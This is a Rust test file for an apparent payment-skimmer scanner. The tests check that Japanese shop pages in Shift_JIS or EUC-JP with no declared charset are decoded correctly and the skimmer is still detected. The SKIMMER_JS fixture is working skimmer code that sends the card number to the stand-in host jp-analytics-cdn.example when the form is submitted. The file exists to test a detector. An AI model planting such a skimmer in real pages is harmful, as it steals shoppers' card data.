//! Issue 7 ("never silently clean"): Japanese shops that declare no encoding. A Shift_JIS or
//! EUC-JP page with no charset in the HTTP header and no `<meta charset>` was decoded as
//! UTF-8: its labels (カード番号, 有効期限…) became replacement characters, the page lost its
//! payment fields, and its scripts — decoded as UTF-8 too instead of with the page's encoding —
//! lost the field names a skimmer reads. The scan said "clean". Each test here failed that way.

mod common;
use common::*;
use encoding_rs::{EUC_JP, Encoding, SHIFT_JIS};

fn encoded(encoding: &'static Encoding, text: &str) -> Vec<u8> {
    let (bytes, _, unmappable) = encoding.encode(text);
    assert!(!unmappable, "fixture text fits {}", encoding.name());
    bytes.into_owned()
}

/// An EC-CUBE style order page, in Japanese, with no encoding declared anywhere.
fn order_page(script: &str) -> String {
    format!(
        r#"<!DOCTYPE html>
<html lang="ja"><head><title>ご注文手続き｜こもれび茶舗 オンラインショップ</title>
<script src="/js/payment.js"></script>{script}</head>
<body><h1>お支払い方法の入力</h1>
<p>ご注文内容をご確認のうえ、クレジットカード情報を入力してください。お届けは三営業日以内です。</p>
<form id="order" action="/shopping/confirm" method="post">
<table>
<tr><th><label for="c1">カード番号</label></th><td><input type="text" id="c1" name="c1" size="20"></td></tr>
<tr><th><label for="c2">有効期限</label></th><td><input type="text" id="c2" name="c2" size="5"></td></tr>
<tr><th><label for="c3">セキュリティコード</label></th><td><input type="text" id="c3" name="c3" size="4"></td></tr>
<tr><th><label for="c4">カード名義</label></th><td><input type="text" id="c4" name="c4"></td></tr>
</table>
<button type="submit">注文を確定する</button></form>
<p>※ 個人情報は適切に管理いたします。お問い合わせはお電話でも承ります。</p></body></html>"#
    )
}

/// The skimmer reads the card field by its Japanese id, and the "validation" comment is in
/// Japanese too: the file is saved in the shop's encoding.
const SKIMMER_JS: &str = "// 入力チェック\n\
window.addEventListener('load', function () {\n\
  document.getElementById('order').addEventListener('submit', function () {\n\
    var v = document.getElementById('カード番号').value;\n\
    new Image().src = 'https://jp-analytics-cdn.example/p.gif?d=' + encodeURIComponent(v);\n\
  });\n\
});\n";

fn page_with_japanese_ids() -> String {
    order_page("").replace(
        r#"<input type="text" id="c1" name="c1" size="20">"#,
        r#"<input type="text" id="カード番号" name="カード番号" size="20">"#,
    )
}

fn has_exfiltration(report: &serde_json::Value) -> bool {
    report["findings"].as_array().unwrap().iter().any(|f| {
        f["rule"] == "payment-data-exfiltration" && f["hosts"][0] == "jp-analytics-cdn.example"
    })
}

#[test]
fn an_undeclared_shift_jis_shop_keeps_its_payment_fields_and_its_skimmer() {
    let page = encoded(SHIFT_JIS, &page_with_japanese_ids());
    let script = encoded(SHIFT_JIS, SKIMMER_JS);
    let s = serve(vec![
        (
            "/shopping/payment",
            Route::Ok {
                status: 200,
                headers: vec![("content-type".into(), "text/html".into())],
                body: page,
            },
        ),
        (
            "/js/payment.js",
            Route::Ok {
                status: 200,
                headers: vec![("content-type".into(), "application/javascript".into())],
                body: script,
            },
        ),
    ]);
    let (code, report, stderr) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/shopping/payment"),
    ]);
    let page = &report["pages"][0];
    assert_eq!(page["encoding"], "Shift_JIS", "{report:#}");
    assert_eq!(page["payment_form"], true, "{report:#}");
    assert!(
        page["title"]
            .as_str()
            .unwrap_or("")
            .contains("こもれび茶舗"),
        "{report:#}"
    );
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(has_exfiltration(&report), "{report:#}");
}

#[test]
fn an_undeclared_euc_jp_site_directory_is_decoded_page_and_scripts() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("public");
    write_file(
        &site,
        "shopping/payment.html",
        encoded(EUC_JP, &page_with_japanese_ids()),
    );
    write_file(&site, "js/payment.js", encoded(EUC_JP, SKIMMER_JS));
    let (code, report, stderr) = scan_json(&[site.to_str().unwrap()]);
    let page = &report["pages"][0];
    assert_eq!(page["encoding"], "EUC-JP", "{report:#}");
    assert_eq!(page["payment_form"], true, "{report:#}");
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(has_exfiltration(&report), "{report:#}");
}

#[test]
fn a_declared_charset_still_wins_over_detection() {
    // Declared windows-1252 in the header: the page is decoded as declared, whatever the
    // bytes look like (browsers do the same).
    let page = encoded(SHIFT_JIS, &order_page(""));
    let s = serve(vec![(
        "/p",
        Route::Ok {
            status: 200,
            headers: vec![(
                "content-type".into(),
                "text/html; charset=windows-1252".into(),
            )],
            body: page,
        },
    )]);
    let (_, report, _) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/p"),
    ]);
    assert_eq!(report["pages"][0]["encoding"], "windows-1252", "{report:#}");
}
